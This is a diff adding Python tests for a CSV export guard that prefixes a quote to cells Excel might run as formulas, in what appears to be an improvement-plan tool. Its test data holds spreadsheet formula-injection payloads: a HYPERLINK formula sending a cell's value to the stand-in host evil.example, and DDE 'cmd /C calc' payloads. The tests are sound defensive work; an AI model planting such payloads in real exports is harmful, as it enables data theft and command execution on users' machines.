+            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        ),
+        ("+44 191 000 0000", "'+44 191 000 0000"),
+        ("-1 day late", "'-1 day late"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("'=1+1", "''=1+1"),  # a quote already there is kept: reading takes off only the one added
+        ("'quoted", "'quoted"),
+        ("Review = done", "Review = done"),
+        ("", ""),
+        (7, 7),
+    ],
+)
+def test_csv_text_that_excel_would_run_gets_a_quote(text: object, written: object) -> None:
+    assert guard_formula(text) == written
+    if isinstance(text, str):
+        assert unguard_formula(written) == text
+
+
+def test_the_csv_never_holds_a_formula_and_round_trips_exactly(tmp_path: Path) -> None:
+    spec = PlanSpec(
+        name="Improvement plan",
+        sections={"plan": "Plan", "governance": "=Governance"},
+        priorities=[
+            PrioritySpec(
+                number=1,
+                section="governance",
+                recommendation="-Ensure the board is sighted",
+                actions=[
+                    ActionSpec(
+                        id="1.1",
+                        text='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+                        leads=["Service Manager"],
+                        progress="- Review done\n- Audit booked",
+                        note="@SUM(1+1)*cmd|' /C calc'!A0",
+                    ),
+                    ActionSpec(
+                        id="1.2",
+                        text="+1 social worker",
+                        leads=["Head of Service"],
+                        progress="Done; =cmd|' /C calc'!A0",
+                        note="'=1+1 was typed with its quote",
+                    ),
+                ],
+            ),
+        ],
+    )
+
+    path = write_csv(tmp_path / "plan.csv", spec)
+
+    raw = path.read_text(encoding="utf-8-sig")
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # Every cell is in double quotes, so a ";" in the text cannot start a new cell where Excel
+    # splits on semicolons (the comma being the decimal mark).
+    outside_quotes = "".join(part for n, part in enumerate(raw.split('"')) if n % 2 == 0)
+    assert set(outside_quotes) <= {",", "\r", "\n"}
+    back = read_plan_table(path).spec
+    assert csv_fields(back) == csv_fields(spec)
+    assert back.actions[0].progress == "- Review done\n- Audit booked"  # a bullet, unchanged
